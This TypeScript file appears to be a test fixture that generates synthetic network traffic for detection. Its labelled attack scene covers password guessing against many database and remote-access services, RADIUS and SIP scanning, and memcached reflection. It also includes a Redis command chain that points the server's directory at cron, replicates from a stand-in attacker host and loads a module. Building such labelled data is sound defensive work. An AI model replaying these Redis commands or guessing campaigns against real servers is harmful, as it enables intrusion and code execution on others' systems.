// Databases guessed at, opened without a password and turned into doors; and applications at their own.
import { spoken as cassandra } from '../../laws/conversations/cassandra.ts';
import { spoken as memcached } from '../../laws/conversations/memcached.ts';
import { answer, ask, spoken as mongodb } from '../../laws/conversations/mongodb.ts';
import { spoken as mysql } from '../../laws/conversations/mysql.ts';
import { message as pgsql, startup } from '../../laws/conversations/pgsql.ts';
import { attribute, message as radius, spoken as radiusBook } from '../../laws/conversations/radius.ts';
import { command, spoken as redis } from '../../laws/conversations/redis.ts';
import { spoken as rfb } from '../../laws/conversations/rfb.ts';
import { lines } from '../../laws/conversations/sip.ts';
import { spoken as tds } from '../../laws/conversations/tds.ts';
import { be32 } from '../../support/packets/octets.ts';
import { part, Scene, type Take } from './scene.ts';

const MISUSED = '10.20.1.66';
const STRANGER = '203.0.113.50';
const APPLICATION = '10.20.0.80';
const [MYSQL, PGSQL, TDS, REDIS, MONGO, CACHE] = [70, 71, 72, 73, 74, 75].map((n) => `10.20.0.${n}`);
const TIMES = 15;

function guesses(scene: Scene): void {
  for (let i = 0; i < TIMES; i++) {
    scene.talk(MISUSED, MYSQL, part(mysql, 1));
    scene.tcp(
      MISUSED,
      PGSQL,
      5432,
      ['client', startup('postgres')],
      ['server', pgsql('R', be32(3))],
      ['client', pgsql('p', `guess${i}\0`)],
      [
        'server',
        pgsql('E', 'SFATAL\0VFATAL\0C28P01\0Mpassword authentication failed for user "postgres"\0\0'),
      ],
    );
    scene.talk(MISUSED, TDS, part(tds, 1));
    scene.talk(MISUSED, '10.20.0.76', part(cassandra, 1));
    scene.talk(MISUSED, MONGO, part(mongodb, 1));
    scene.tcp(
      MISUSED,
      REDIS,
      6379,
      ['client', command('AUTH', `guess${i}`)],
      ['server', '-WRONGPASS invalid username-password pair or user is disabled.\r\n'],
    );
    scene.talk(MISUSED, '10.20.1.14', part(rfb, 1));
    scene.tcp(
      MISUSED,
      '10.20.0.80',
      21,
      ['server', '220 FTP\r\n'],
      ['client', `USER user${i}\r\n`],
      ['server', '331 which password\r\n'],
      ['client', 'PASS hush\r\n'],
      ['server', '530 no\r\n'],
    );
    scene.udp(
      '10.20.0.3',
      '10.20.0.11',
      1812,
      ['client', radius(1, i, attribute(1, `user${i}`), attribute(2, new Uint8Array(16).fill(1)))],
      ['server', radius(3, i)],
    );
    scene.udp(
      STRANGER,
      '10.20.0.50',
      5060,
      [
        'client',
        lines(
          'REGISTER sip:voice.example SIP/2.0',
          `From: <sip:${100 + i}@voice.example>;tag=1`,
          `To: <sip:${100 + i}@voice.example>`,
          `Call-ID: r${i}@a`,
          'CSeq: 1 REGISTER',
          'User-Agent: friendly-scanner',
          'Content-Length: 0',
        ),
      ],
      [
        'server',
        lines(
          'SIP/2.0 403 Forbidden',
          `From: <sip:${100 + i}@voice.example>;tag=1`,
          `To: <sip:${100 + i}@voice.example>`,
          `Call-ID: r${i}@a`,
          'CSeq: 1 REGISTER',
          'Content-Length: 0',
        ),
      ],
    );
  }
}

function doors(scene: Scene): void {
  // One of the guesses is right.
  scene.tcp(
    MISUSED,
    '10.20.0.80',
    21,
    ['server', '220 FTP\r\n'],
    ['client', 'USER backup\r\n'],
    ['server', '331 which password\r\n'],
    ['client', 'PASS hush\r\n'],
    ['server', '230 in\r\n'],
  );
  scene.talk(MISUSED, MYSQL, part(mysql, 0));
  scene.tcp(
    MISUSED,
    REDIS,
    6379,
    ['client', command('CONFIG', 'SET', 'dir', '/var/spool/cron')],
    ['server', '+OK\r\n'],
    ['client', command('REPLICAOF', '203.0.113.50', '6379')],
    ['server', '+OK\r\n'],
    ['client', command('MODULE', 'LOAD', './exp.so')],
    ['server', '+OK\r\n'],
  );
  scene.tcp(
    MISUSED,
    MONGO,
    27_017,
    ['client', ask({ find: 'people', filter: { name: 'taro' }, $db: 'shop' })],
    ['server', answer({ ok: 1 })],
  );
  scene.talk(STRANGER, MYSQL, part(mysql, 0));
  scene.talk(APPLICATION, STRANGER, part(mysql, 0));
  scene.talk(STRANGER, CACHE, part(memcached, 2));
  scene.talk(CACHE, '198.51.100.80', part(memcached, 3));
}

export function attack(): Take {
  const scene = new Scene();
  guesses(scene);
  doors(scene);
  return {
    scene,
    about: {
      kind: 'attack',
      title:
        'Databases, telephones and screens guessed at; a Redis made a door; a cache that answers the world',
      origin:
        'pc66 guesses at MySQL, PostgreSQL, SQL Server, MongoDB, Redis, VNC and FTP, rewrites the settings of a Redis ' +
        'without a password and reads a MongoDB; somebody tries many users at a RADIUS server; a stranger registers ' +
        'telephones, speaks MySQL with the house and has a memcached answer over UDP.',
      attacker: [MISUSED, STRANGER, '10.20.0.3', CACHE],
      victims: [MYSQL, PGSQL, TDS, REDIS, MONGO, APPLICATION],
    },
  };
}

export function normal(): Take {
  const scene = new Scene();
  for (let i = 0; i < 3; i++) {
    scene.talk(APPLICATION, MYSQL, part(mysql, 3));
    scene.talk(APPLICATION, '10.20.0.76', part(cassandra, 0));
    scene.talk(APPLICATION, MONGO, part(mongodb, 0));
    scene.tcp(
      APPLICATION,
      REDIS,
      6379,
      ['client', command('AUTH', 'app', 'secret')],
      ['server', '+OK\r\n'],
      ['client', command('GET', 'session:1')],
      ['server', '$3\r\nabc\r\n'],
    );
    scene.talk(APPLICATION, CACHE, part(memcached, 0));
    scene.talk('10.20.0.3', '10.20.0.12', part(radiusBook, 1));
    scene.wait(30);
  }
  // A password mistyped once.
  scene.talk(APPLICATION, REDIS, part(redis, 0, 0, 4));
  return {
    scene,
    about: {
      kind: 'benign',
      title: 'An application and its databases: log-ins, reads, one password mistyped',
      origin:
        'A web server logs in to MySQL over TLS, to MongoDB with SCRAM and to Redis, and reads a memcached.',
    },
  };
}
